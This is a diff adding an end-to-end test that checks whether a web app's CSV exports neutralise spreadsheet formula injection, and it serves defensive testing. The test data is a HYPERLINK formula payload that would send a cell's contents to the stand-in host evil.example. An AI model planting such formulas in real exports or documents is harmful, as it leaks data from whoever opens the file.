@@ -835,3 +835,29 @@ test('a script payload saved as a narrative renders as text on the section page 
   }
   expect(one<{ narrative: string }>('SELECT narrative FROM self_assessments WHERE section_id = ?', id).narrative).toBe(original);
 });
+
+test('text that starts like a formula is written to every CSV as text, not as a formula', async () => {
+  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
+  const byName = new Map(listBuiltActions().map((a) => [a.name, a.id]));
+  const payload = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
+  const save = await callAction(api, byName.get('saveFinancialLine')!, [
+    { planId: planId(2025), fiscalYear: 2025, name: payload, sectionId: null, priorAmount: '' },
+  ]);
+  const saved = actionResult(save.body);
+  expect(saved?.ok, save.body.slice(0, 300)).toBe(true);
+  const lineId = (saved!.data as { id: number }).id;
+  try {
+    for (const url of ['/years/2025/report.csv', '/api/years/2025/actuals/csv']) {
+      const res = await api.get(url);
+      expect(res.status(), url).toBe(200);
+      const csv = await res.text();
+      // No cell anywhere starts with a formula character (a cell starts the line or follows a comma).
+      expect(csv, url).not.toMatch(/(^|[\r\n,])"?[=+@]/);
+      if (url.endsWith('report.csv')) expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
+    }
+  } finally {
+    const del = await callAction(api, byName.get('removeFinancialLine')!, [{ id: lineId }]);
+    expect(actionResult(del.body)?.ok, del.body.slice(0, 300)).toBe(true);
+    await api.dispose();
+  }
+});
